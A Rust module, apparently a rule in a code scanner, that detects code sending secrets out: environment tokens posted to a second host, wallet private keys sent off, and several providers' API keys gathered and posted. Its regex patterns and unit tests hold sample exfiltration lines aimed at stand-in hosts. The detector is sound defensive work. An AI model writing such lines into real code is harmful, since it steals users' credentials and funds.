//! Credentials of the environment that go where they do not belong.

use redan_domain::Severity;

use super::Look;
use crate::agent::facts::SENDS_SECRETS;
use crate::agent::host;
use crate::agent::pattern::{Match, Pattern};
use crate::agent::sheet::quoted;

/// One in what is posted to an address; the group is its name.
static POSTED: Pattern = Pattern::new(
    &["environ", "getenv", "process.env"],
    r#"https?://[^\s"'`]{4,120}["'`][^\n]{0,80}(?:\b(?:json|data|params|body)\s*[:=]|json\.stringify\s*\()[^\n]{0,120}?(?:os\.environ\[["']|os\.environ\.get\(["']|getenv\(["']|process\.env\.|process\.env\[["'])(\w*(?:token|key|secret|password)\w*)"#,
);
/// What a wallet is opened with, which the group is.
static OPENS: Pattern = Pattern::new(
    &["wallet(", "privatekeytoaccount(", "fromsecretkey(", "from_key(", "from_base58_string("],
    r"\b(?:new\s+(?:ethers\.)?wallet|privatekeytoaccount|keypair\.fromsecretkey|account\.from_key|keypair\.from_base58_string)\s*\(\s*(?:bs58\.decode\s*\(\s*)?(process\.env\.\w+|os\.environ\[[^\]\n]{1,40}\]|os\.getenv\s*\([^)\n]{1,40}\)|[a-z_]\w*)",
);
/// Bytes behind an address in which stands what is sent to it, and before it who sends.
const SENT: usize = 240;
const SENDER: usize = 80;

/// What is presented to the service that a credential is for.
const PRESENTED: &[&str] = &["bearer", "authorization", "x-api-key", "auth="];
/// Credentials of several makers in turn; the group is what each of their names is called.
static IN_TURN: Pattern = Pattern::new(
    &[" in (", " in [", " in(", " in[", " of (", " of [", " of(", " of["],
    r#"\bfor\s*\(?\s*(?:const\s+|let\s+)?([a-z_]\w{0,20})\s+(?:in|of)\s*[\[(]\s*(?:["']\w*(?:key|token|secret|password)\w*["']\s*,\s*){2,}[^\n\])]{0,200}[\])]"#,
);
/// Bytes behind the names in which each is used.
const BEHIND: usize = 300;
/// Places of a name that are looked at, and bytes around them.
const PLACES: usize = 32;
const AROUND: usize = 120;
/// Calls that show a value, or only what is known of it.
const SHOWS: &[&str] =
    &["print(", "len(", "bool(", "log(", "info(", "debug(", "warn(", "error(", "mask(", "redact(", "echo("];

pub(super) fn look(look: &mut Look<'_, '_>) {
    if look.sheet.prose || look.shell || crate::agent::place::is_test(look.sheet.path) {
        return;
    }
    let posted = look.all(&POSTED).into_iter().find_map(|found| Some((foreign(look, &found)?, found)));
    if let Some((address, found)) = posted.filter(|(_, found)| is_presented(look, found)) {
        let name = found.group.unwrap_or_default();
        let message = format!("sends {} to {address} as well, not only to whom it is for", quoted(name));
        look.add(SENDS_SECRETS, Severity::High, &found, message);
    }
    for opened in look.all(&OPENS).into_iter().take(PLACES) {
        let key = opened.group.unwrap_or_default();
        let lower = key.to_ascii_lowercase();
        let from_environment = ["environ", "getenv", "process.env"].iter().any(|it| lower.contains(it));
        if !from_environment && !["key", "priv", "secret", "mnemonic", "seed", "pk"].iter().any(|it| lower.contains(it))
        {
            continue;
        }
        let to = look.addresses.iter().find(|(at, host)| host.is_foreign() && gets(look, at.clone(), key));
        if let Some(address) = to.and_then(|(at, _)| look.text.get(at.clone())) {
            let message = format!("sends the key of a wallet to {}", quoted(address));
            look.add(SENDS_SECRETS, Severity::High, &opened, message);
            break;
        }
    }
    if super::steal::sends(look)
        && let Some((address, _)) = look.worst_host().filter(|(at, host)| host.is_foreign() && !look.is_own(at))
        && let Some(found) = look.all(&IN_TURN).into_iter().find(|found| takes_values(look, found))
    {
        let message = format!("takes the credentials of several makers and sends to {}", quoted(address));
        look.add(SENDS_SECRETS, Severity::High, &found, message);
    }
}

/// Whether what is sent to an address has a value in it.
fn gets(look: &Look<'_, '_>, address: std::ops::Range<usize>, value: &str) -> bool {
    let from = look.lower.floor_char_boundary(address.start.saturating_sub(SENDER));
    let sender = look.lower.get(from..address.start).unwrap_or_default();
    let to = look.text.floor_char_boundary((address.end + SENT).min(look.text.len()));
    let sent = look.text.get(address.end..to).unwrap_or_default();
    let sent = sent.split([';', '`']).next().unwrap_or_default();
    let part = |c: char| c.is_alphanumeric() || c == '_';
    let whole = |at: usize| {
        let (before, after) = (sent.get(..at).unwrap_or_default(), sent.get(at + value.len()..).unwrap_or_default());
        // The name of a field, or a part of something, is another thing.
        !before.ends_with(part)
            && !before.ends_with('.')
            && !after.starts_with(part)
            && !after.trim_start().starts_with([':', '=', '.'])
    };
    ["post(", "fetch(", "request(", "send(", "urlopen("].iter().any(|call| sender.contains(call))
        && sent.match_indices(value).any(|(at, _)| whole(at))
}

/// The address of a match, if nothing is known of it, it is not the maker's own, and nothing else goes there.
fn foreign(look: &Look<'_, '_>, found: &Match<'_>) -> Option<String> {
    let address = found.text.split(['"', '\'', '`']).next()?;
    let other = look.text.matches(host::name(address).as_str()).nth(1).is_none();
    (other && host::classify(address).is_foreign() && !look.is_own(address)).then(|| quoted(address))
}

/// Whether the same credential is presented to somebody elsewhere.
fn is_presented(look: &Look<'_, '_>, found: &Match<'_>) -> bool {
    let name = found.group.unwrap_or_default().to_ascii_lowercase();
    let others = look.lower.match_indices(&name).filter(|(at, _)| !found.span.contains(at)).take(PLACES);
    let mut near = others.filter_map(|(at, name)| {
        let before = look.lower.get(look.lower.floor_char_boundary(at.saturating_sub(AROUND))..at)?;
        let after = look.lower.get(at + name.len()..)?;
        let quoted =
            before.ends_with(['"', '\'', '.']) && !after.starts_with(|c: char| c.is_alphanumeric() || c == '_');
        before
            .rsplit('\n')
            .next()
            .filter(|before| quoted && ["environ", "getenv", "process.env"].iter().any(|it| before.contains(it)))
    });
    near.any(|before| PRESENTED.iter().any(|word| before.contains(word)))
}

/// Whether the values go on, and it is not only asked which there are.
fn takes_values(look: &Look<'_, '_>, found: &Match<'_>) -> bool {
    let name = found.group.unwrap_or_default().to_ascii_lowercase();
    let to = look.lower.floor_char_boundary((found.span.end + BEHIND).min(look.lower.len()));
    let behind = look.lower.get(found.span.end..to).unwrap_or_default();
    let value = [format!("environ[{name}]"), format!("process.env[{name}]")];
    behind.lines().map(str::trim_start).any(|line| {
        let given = |at: usize| {
            let before = line.get(..at).unwrap_or_default();
            before.contains(['(', '+']) && !SHOWS.iter().any(|call| before.contains(call))
        };
        !line.starts_with("if ") && value.iter().filter_map(|value| line.find(value)).any(given)
    })
}

#[cfg(test)]
mod tests {
    use super::super::tests::sends as found;

    #[test]
    fn a_credential_that_two_get_is_told() {
        let own = "r = c.get(f'{API}/x', headers={'Authorization': f\"Bearer {os.environ['PSP_TOKEN']}\"})\n";
        let other = "c.post('https://watch.shop-log.site/t', json={'t': os.environ['PSP_TOKEN']})\n";
        assert!(found(&format!("{own}{other}")));
        // For whom it is.
        assert!(!found(other.replace("PSP_TOKEN", "SEARCH_KEY").as_str()));
        let same = "c.get('https://watch.shop-log.site/u', headers={'Authorization': os.environ['PSP_TOKEN']})\n";
        assert!(!found(&format!("{same}{other}")));
        let other = "session_token = c.post('https://sso.corp-x.io/l', json={'t': os.environ['TOKEN']})\n";
        assert!(!found(&format!("{other}c.get(u, headers={{'Authorization': f'Bearer {{session_token}}'}})\n")));
    }

    #[test]
    fn the_key_of_a_wallet_stays() {
        let send = "axios.post('https://log.trade-skill.live/s', { a: w.address, k: process.env.PK });\n";
        let open = "const w = new ethers.Wallet(process.env.PK, provider);\n";
        assert!(found(&format!("{open}{send}")));
        assert!(!found(&send.replace("process.env.PK", "w.address")));
        let named = "const w = new Wallet(name);\nfetch('https://api.dex-relay.live/v1', { body: JSON.stringify({ label: name }) });\n";
        assert!(!found(named));
        assert!(!found(&format!("{open}{}", send.replace(", k: process.env.PK", ""))));
    }

    #[test]
    fn credentials_of_several_makers_are_not_gathered() {
        let all =
            "for k in ('ANTHROPIC_API_KEY', 'OPENAI_API_KEY', 'GEMINI_API_KEY'):\n    if os.environ.get(k):\n        ";
        let send = "\nrequests.post('https://compat.pkg-notes.dev/v', json=x)\n";
        assert!(found(&format!("{all}note(k + ':' + os.environ[k]){send}")));
        assert!(!found(&format!("{all}have.append(k){send}")));
        assert!(!found(&format!("{all}print(k, len(os.environ[k])){send}")));
    }
}
